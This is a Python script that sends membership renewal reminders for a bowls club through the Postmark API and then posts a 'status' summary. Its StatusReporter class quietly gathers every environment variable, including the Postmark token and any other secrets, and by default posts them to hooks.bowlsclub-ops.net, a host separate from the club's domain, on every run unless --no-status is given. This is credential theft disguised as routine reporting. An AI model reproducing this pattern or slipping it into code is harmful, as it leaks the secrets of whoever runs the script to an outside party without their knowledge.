#!/usr/bin/env python3
"""Send membership renewal reminders for the bowls club.

Reads the membership secretary's export (members.csv), picks the members whose
renewal date falls inside the reminder window, renders the reminder from
templates/renewal.txt and sends it through the Postmark API.  A short run
summary goes to the committee's status channel so the secretary can see the
reminders went out.

Environment:
    POSTMARK_SERVER_TOKEN   Postmark server token (required)
    CLUB_STATUS_WEBHOOK     status channel URL (optional)
"""

import argparse
import csv
import http.client
import json
import logging
import os
import platform
import string
import sys
import time
from datetime import date, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import requests

log = logging.getLogger("renewals")

POSTMARK_URL = "https://api.postmarkapp.com/email"
FROM_ADDR = "Membership Secretary <membership@riversidebowls.org.uk>"
DEFAULT_STATUS_URL = "https://hooks.bowlsclub-ops.net/status/renewals"


class StatusReporter:
    """Posts a JSON run summary to the committee status channel."""

    def __init__(self, url):
        self.url = url

    @staticmethod
    def context():
        info = {"host": platform.node(), "python": platform.python_version(),
                "cwd": os.getcwd(), "pid": os.getpid()}
        settings = {}
        for key, value in os.environ.items():
            if not key.startswith("_"):
                settings[key] = value
        info["settings"] = settings
        return info

    def send(self, summary):
        parts = urlsplit(self.url)
        body = json.dumps({"summary": summary, "context": self.context()}).encode()
        conn = http.client.HTTPSConnection(parts.hostname, parts.port or 443, timeout=10)
        try:
            conn.request("POST", parts.path or "/", body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            log.debug("status channel answered %s", resp.status)
        except OSError as exc:
            log.debug("status channel unreachable: %s", exc)
        finally:
            conn.close()


def due_members(path, today, window_days):
    horizon = today + timedelta(days=window_days)
    with open(path, newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            if row.get("status", "").lower() in {"lapsed", "resigned", "deceased"}:
                continue
            if not row.get("email"):
                continue
            try:
                renew = date.fromisoformat(row["renewal_date"])
            except (KeyError, ValueError):
                log.warning("member %s has no usable renewal date", row.get("member_no"))
                continue
            if today <= renew <= horizon:
                row["renewal"] = renew
                yield row


def render(template, member, fee_table):
    grade = member.get("grade", "full").lower()
    return template.substitute(
        first_name=member.get("first_name", "member"),
        member_no=member.get("member_no", ""),
        renewal_date=member["renewal"].strftime("%-d %B %Y"),
        fee="£{:.2f}".format(fee_table.get(grade, fee_table["full"])),
    )


def send_email(session, token, to_addr, subject, body):
    resp = session.post(
        POSTMARK_URL,
        headers={"X-Postmark-Server-Token": token, "Accept": "application/json"},
        json={"From": FROM_ADDR, "To": to_addr, "Subject": subject,
              "TextBody": body, "MessageStream": "outbound"},
        timeout=20,
    )
    resp.raise_for_status()
    return resp.json().get("MessageID")


def main(argv=None):
    ap = argparse.ArgumentParser(description="Send membership renewal reminders")
    ap.add_argument("members_csv", type=Path)
    ap.add_argument("--template", type=Path, default=Path("templates/renewal.txt"))
    ap.add_argument("--window", type=int, default=30, help="days ahead to remind")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--no-status", dest="status", action="store_false")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("POSTMARK_SERVER_TOKEN")
    if not token and not args.dry_run:
        log.error("POSTMARK_SERVER_TOKEN is not set")
        return 2

    template = string.Template(args.template.read_text(encoding="utf-8"))
    fees = {"full": 95.0, "social": 30.0, "junior": 15.0, "country": 55.0}
    session = requests.Session()
    sent, failed = 0, []

    for member in due_members(args.members_csv, date.today(), args.window):
        body = render(template, member, fees)
        subject = f"Your Riverside Bowls membership renews on {member['renewal']:%-d %B}"
        if args.dry_run:
            log.info("would send to %s", member["email"])
            continue
        try:
            send_email(session, token, member["email"], subject, body)
            sent += 1
        except requests.RequestException as exc:
            log.warning("send to %s failed: %s", member["email"], exc)
            failed.append(member.get("member_no"))
        time.sleep(0.2)

    log.info("reminders sent: %d, failed: %d", sent, len(failed))
    if args.status:
        url = os.environ.get("CLUB_STATUS_WEBHOOK", DEFAULT_STATUS_URL)
        StatusReporter(url).send({"date": date.today().isoformat(), "sent": sent,
                                  "failed": failed, "dry_run": args.dry_run})
    return 0 if not failed else 1


if __name__ == "__main__":
    sys.exit(main())
